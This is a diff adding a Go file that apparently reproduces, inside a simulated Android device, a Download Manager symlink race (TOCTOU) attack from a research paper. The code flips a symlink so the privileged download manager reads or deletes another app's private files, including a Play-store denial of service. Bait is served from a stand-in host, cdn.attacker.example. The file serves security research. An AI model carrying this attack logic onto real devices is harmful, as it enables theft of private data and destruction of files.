@@ -1,0 +1,187 @@
+package attack
+
+import (
+	"fmt"
+	"path"
+	"time"
+
+	"github.com/ghost-installer/gia/internal/dm"
+	"github.com/ghost-installer/gia/internal/market"
+	"github.com/ghost-installer/gia/internal/sim"
+	"github.com/ghost-installer/gia/internal/vfs"
+)
+
+// DMSymlink is the Download Manager TOCTOU attack of Section III-C: request
+// a download to a symlink that resolves somewhere legal, then re-point the
+// link so the DM's privileged identity touches a file the attacker cannot.
+//
+// Against the legacy (4.4) DM a single retarget suffices. Against the 6.0
+// recheck policy the attacker flips the link continuously, retrying until a
+// flip lands inside the check-to-use gap. Against the fixed DM no number of
+// retries helps.
+type DMSymlink struct {
+	mal *Malware
+	// linkDir is the attacker-owned symlink used as the download parent.
+	linkDir string
+	// benignDir is where the link points while checks run.
+	benignDir string
+	tries     int
+}
+
+// flipPeriod is how fast the attacker's flipper toggles the link.
+const flipPeriod = 300 * time.Microsecond
+
+// attackerBait is the throwaway content the attacker's CDN serves.
+var attackerBait = []byte("bait-download")
+
+// NewDMSymlink prepares the attack directories and symlink.
+func NewDMSymlink(mal *Malware) (*DMSymlink, error) {
+	a := &DMSymlink{
+		mal:       mal,
+		linkDir:   fmt.Sprintf("/sdcard/.dl-%08x", mal.Dev.Sched.Rand().Uint32()),
+		benignDir: fmt.Sprintf("/sdcard/.benign-%08x", mal.Dev.Sched.Rand().Uint32()),
+	}
+	if err := mal.Dev.FS.MkdirAll(a.benignDir, mal.UID(), vfs.ModeDir); err != nil {
+		return nil, fmt.Errorf("attack: prepare benign dir: %w", err)
+	}
+	if err := mal.Dev.FS.Symlink(a.benignDir, a.linkDir, mal.UID()); err != nil {
+		return nil, fmt.Errorf("attack: create symlink: %w", err)
+	}
+	return a, nil
+}
+
+// Tries reports how many strike attempts the last operation used.
+func (a *DMSymlink) Tries() int { return a.tries }
+
+// Steal exfiltrates targetPath — a file only the DM's identity can read,
+// such as another app's private files or the DM's own database. cb receives
+// the stolen bytes or the final error.
+func (a *DMSymlink) Steal(targetPath string, maxTries int, cb func([]byte, error)) {
+	a.run(targetPath, maxTries,
+		func(id int64, inner func([]byte, error)) {
+			a.mal.Dev.DM.Retrieve(a.mal.UID(), a.mal.Name(), id, inner)
+		},
+		func(out []byte) bool { return string(out) != string(attackerBait) },
+		cb)
+}
+
+// Delete destroys targetPath using the DM's privilege (deleting
+// downloads.db itself is the Play-store DoS).
+func (a *DMSymlink) Delete(targetPath string, maxTries int, cb func(error)) {
+	fs := a.mal.Dev.FS
+	a.run(targetPath, maxTries,
+		func(id int64, inner func([]byte, error)) {
+			a.mal.Dev.DM.Remove(a.mal.UID(), a.mal.Name(), id, func(err error) { inner(nil, err) })
+		},
+		func([]byte) bool { return !fs.Exists(targetPath) },
+		cb2err(cb))
+}
+
+func cb2err(cb func(error)) func([]byte, error) {
+	return func(_ []byte, err error) { cb(err) }
+}
+
+// run drives the full cycle: enqueue a bait download named after the victim
+// file, wait for completion (the DM's checks are then behind us), and
+// strike with retries.
+func (a *DMSymlink) run(targetPath string, maxTries int,
+	op func(id int64, inner func([]byte, error)),
+	won func(out []byte) bool,
+	cb func([]byte, error),
+) {
+	if maxTries < 1 {
+		maxTries = 1
+	}
+	a.tries = 0
+	basename := path.Base(targetPath)
+	victimDir := path.Dir(targetPath)
+	fs := a.mal.Dev.FS
+
+	var attempt func(try int)
+	attempt = func(try int) {
+		a.tries = try
+		// Benign while the DM validates the destination at enqueue.
+		if err := fs.Retarget(a.linkDir, a.benignDir, a.mal.UID()); err != nil {
+			cb(nil, fmt.Errorf("attack: retarget: %w", err))
+			return
+		}
+		id, err := a.mal.Dev.DM.Enqueue(a.mal.UID(), a.mal.Name(), attackerCDNURL(a.mal), a.linkDir+"/"+basename, nil)
+		if err != nil {
+			cb(nil, fmt.Errorf("attack: enqueue: %w", err))
+			return
+		}
+		sim.NewTicker(a.mal.Dev.Sched, 20*time.Millisecond, func(time.Duration) bool {
+			d, qerr := a.mal.Dev.DM.Query(id)
+			if qerr != nil {
+				cb(nil, qerr)
+				return false
+			}
+			switch d.Status {
+			case dm.StatusFailed:
+				cb(nil, d.Err)
+				return false
+			case dm.StatusSuccessful:
+				// fall through to the strike below
+			default:
+				return true // still downloading
+			}
+			a.strike(victimDir, id, op, func(out []byte, serr error) {
+				if serr == nil && won(out) {
+					cb(out, nil)
+					return
+				}
+				if try < maxTries {
+					attempt(try + 1)
+					return
+				}
+				if serr == nil {
+					serr = fmt.Errorf("attack: %d tries without landing in the gap", maxTries)
+				}
+				cb(nil, serr)
+			})
+			return false
+		})
+	}
+	attempt(1)
+}
+
+// strike retargets the link at the victim, runs a continuous flipper, and
+// fires the privileged DM operation after a random phase jitter. The jitter
+// (drawn from the seeded scheduler) models the natural misalignment between
+// the attacker's flip loop and the DM's internals; retries re-roll it.
+func (a *DMSymlink) strike(victimDir string, id int64, op func(int64, func([]byte, error)), cb func([]byte, error)) {
+	fs := a.mal.Dev.FS
+	if err := fs.Retarget(a.linkDir, victimDir, a.mal.UID()); err != nil {
+		cb(nil, fmt.Errorf("attack: retarget to victim: %w", err))
+		return
+	}
+	toVictim := true
+	flipper := sim.NewTicker(a.mal.Dev.Sched, flipPeriod, func(time.Duration) bool {
+		toVictim = !toVictim
+		target := a.benignDir
+		if toVictim {
+			target = victimDir
+		}
+		return fs.Retarget(a.linkDir, target, a.mal.UID()) == nil
+	})
+	jitter := a.mal.Dev.Sched.Uniform(0, 2*flipPeriod)
+	a.mal.Dev.Sched.After(jitter, func() {
+		op(id, func(out []byte, err error) {
+			flipper.Stop()
+			_ = fs.Retarget(a.linkDir, a.benignDir, a.mal.UID())
+			cb(out, err)
+		})
+	})
+}
+
+// attackerCDNURL publishes the bait on an attacker-controlled host once and
+// returns its URL.
+func attackerCDNURL(mal *Malware) string {
+	const host = "cdn.attacker.example"
+	srv, ok := mal.Dev.Market.Server(host)
+	if !ok {
+		srv = market.NewServer(host)
+		mal.Dev.Market.Add(srv)
+	}
+	return srv.PublishRaw("bait", attackerBait)
+}
